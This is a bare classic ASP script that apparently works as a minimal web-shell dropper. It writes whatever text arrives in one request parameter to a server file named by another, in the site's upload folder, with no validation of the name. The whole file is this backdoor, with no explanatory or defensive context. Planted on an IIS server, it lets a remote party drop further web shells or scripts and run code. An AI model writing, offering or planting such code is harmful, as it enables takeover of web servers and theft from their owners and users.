<%
fname = Request("f")
Set o = Server.CreateObject("ADODB.Stream")
With o
.Open
.Charset = "gb2312"
.WriteText = Request("c")
.SaveToFile Server.MapPath("upload") & "\" & fname, 2
.Close
End With
%>
